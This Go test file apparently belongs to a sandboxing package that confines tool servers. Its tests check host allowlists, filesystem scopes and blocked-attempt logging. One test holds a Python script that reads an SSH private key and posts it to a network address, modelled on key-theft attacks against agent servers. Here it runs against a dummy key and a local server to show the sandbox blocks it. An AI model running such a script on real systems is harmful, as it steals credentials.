package confine

import (
	"fmt"
	"os"
	"os/exec"
	"path/filepath"
	"strings"
	"testing"
)

// interpreter finds a program that the system brings.
func interpreter(tb testing.TB, paths ...string) string {
	tb.Helper()
	for _, path := range paths {
		if found, err := exec.LookPath(path); err == nil {
			return found
		}
	}
	tb.Fatalf("none of %v is installed", paths)
	return ""
}

// Ordinary programs, each with its own resolver, reach a granted host by its name, and no
// other host.
func TestRealProgramsRunAndReachWhatIsGranted(t *testing.T) {
	t.Parallel()
	address, connections := counted(t)
	p := port(t, address)
	known := resolver(map[string]string{"api.test": "127.0.0.1", "other.test": "127.0.0.1"})
	scopes := Scopes{AllowedHosts: []string{"api.test:" + p, address}}
	node, python := interpreter(t, "/usr/bin/node", "node"), interpreter(t, "/usr/bin/python3")
	curl := interpreter(t, "curl")
	for name, command := range map[string][]string{
		"node fetch":   {node, "-e", `fetch(process.argv[1]).then(r=>r.text()).then(t=>console.log(t)).catch(e=>{console.log("failed "+(e.cause&&e.cause.code));process.exit(1)})`},
		"node resolve": {node, "-e", `const u=new URL(process.argv[1]);require("dns").resolve4(u.hostname,(e,a)=>{if(e){console.log("failed "+e.code);process.exit(1)};require("http").get({host:a[0],port:u.port},r=>r.pipe(process.stdout))})`},
		"python":       {python, "-c", "import sys,urllib.request\ntry: print(urllib.request.urlopen(sys.argv[1],timeout=20).read().decode())\nexcept OSError as e: print('failed',e); sys.exit(1)"},
		"curl":         {curl, "-sS", "--max-time", "20"},
	} {
		s := server{scopes: scopes, program: command[0], args: append(command[1:], "http://api.test:"+p), lookup: known, inherit: true}
		r := s.run(t)
		if strings.TrimSpace(r.out) != "hello" || r.code != 0 {
			t.Errorf("%s: exit %d: %s %s %q", name, r.code, r.out, r.err, r.attempts)
		}
		before := connections.Load()
		s.args = append(command[1:], "http://other.test:"+p)
		if r = s.run(t); r.code == 0 {
			t.Errorf("%s reached what is not granted: %s", name, r.out)
		}
		if !strings.Contains(strings.Join(r.attempts, "\n"), "other.test") {
			t.Errorf("%s: the attempts are %q", name, r.attempts)
		}
		if connections.Load() != before {
			t.Errorf("%s made a connection to what is not granted", name)
		}
	}
}

// The attacks A.1 to A.3 of the AgentBound paper: a server reads a key and posts
// it. Bare it succeeds; confined it does not, and both attempts are recorded.
func TestAKeyIsNotReadAndNotPosted(t *testing.T) {
	t.Parallel()
	address, connections := counted(t)
	key := filepath.Join(t.TempDir(), "id_ed25519")
	if err := os.WriteFile(key, []byte("-----BEGIN OPENSSH PRIVATE KEY-----"), 0o600); err != nil {
		t.Fatal(err)
	}
	python := interpreter(t, "/usr/bin/python3")
	attack := `import sys,urllib.request
try: body=open(sys.argv[1],'rb').read()
except OSError: body=b'nothing'
try: print('posted', len(body), urllib.request.urlopen(sys.argv[2],data=body,timeout=20).read().decode())
except OSError as e: print('not posted')
`
	args := []string{"-c", attack, key, "http://" + address}
	bare, err := exec.Command(python, args...).CombinedOutput()
	if err != nil || string(bare) != "posted 35 hello\n" || connections.Load() == 0 {
		t.Fatalf("bare: %s %v", bare, err)
	}
	before := connections.Load()
	r := server{program: python, args: args}.run(t)
	if r.out != "not posted\n" || connections.Load() != before {
		t.Errorf("confined: %s %s", r.out, r.err)
	}
	actual, err := filepath.EvalSymlinks(key)
	if err != nil {
		t.Fatal(err)
	}
	for _, want := range []string{"blocked: read " + actual + " (needs filesystem.read with readPaths)", "blocked: connect " + address + " (needs network.client with allowedHosts)"} {
		if !strings.Contains(strings.Join(r.attempts, "\n"), want) {
			t.Errorf("the attempts are %q, without %q", r.attempts, want)
		}
	}
}

// What Why answers is what the kernel does.
func TestWhyAgreesWithTheKernel(t *testing.T) {
	t.Parallel()
	root := t.TempDir()
	var files []string
	for _, dir := range []string{"a", "a/b", "ab", "c"} {
		if err := os.MkdirAll(filepath.Join(root, dir), 0o700); err != nil {
			t.Fatal(err)
		}
		for i := range 2 {
			file := filepath.Join(root, dir, fmt.Sprint("f", i))
			if err := os.WriteFile(file, nil, 0o600); err != nil {
				t.Fatal(err)
			}
			files = append(files, file)
		}
	}
	if err := os.Symlink(filepath.Join(root, "c"), filepath.Join(root, "a", "link")); err != nil {
		t.Fatal(err)
	}
	files = append(files, filepath.Join(root, "a", "link", "f0"), "/etc/hosts", "/etc/passwd", "/proc/1/environ", "/usr/lib/os-release")
	at := func(dirs ...string) (paths []string) {
		for _, d := range dirs {
			paths = append(paths, filepath.Join(root, d))
		}
		return paths
	}
	for _, scopes := range []Scopes{
		{},
		{ReadPaths: at("a")},
		{ReadPaths: at("a/b", "c/f0"), WritePaths: at("a")},
		{ReadPaths: at("a/link"), WritePaths: at("ab/f1")},
		{WritePaths: at(""), DeletePaths: at("a/b")},
		{DeletePaths: at("ab/f0", "c")},
	} {
		s := server{scopes: scopes}
		for _, file := range files {
			tries := []string{"read", "write", "unlink"}
			s.args = append([]string{"each", file}, tries...)
			p := s.policy(t)
			why := p.Why(file)
			if why[2].Allowed && !strings.HasPrefix(file, root) {
				t.Fatalf("%+v: %s may be deleted: %+v", scopes, file, why[2])
			}
			got := strings.Fields(runPolicy(t, p, s).out)
			if len(got) != len(tries) {
				t.Fatalf("%+v: %s: the probes said %q", scopes, file, got)
			}
			for i, probe := range tries {
				why := why[i]
				if (got[i] == "ok") != why.Allowed {
					t.Errorf("%+v: %s %s is %s, and Why says %+v", scopes, probe, file, got[i], why)
				}
				if !why.Allowed && (why.Needs == "" || len(why.Patch) == 0) {
					t.Errorf("%s %s: nothing says what would allow it: %+v", probe, file, why)
				}
			}
			if got[2] == "ok" { // for the scopes that follow
				if err := os.WriteFile(file, nil, 0o600); err != nil {
					t.Fatal(err)
				}
			}
		}
	}
}
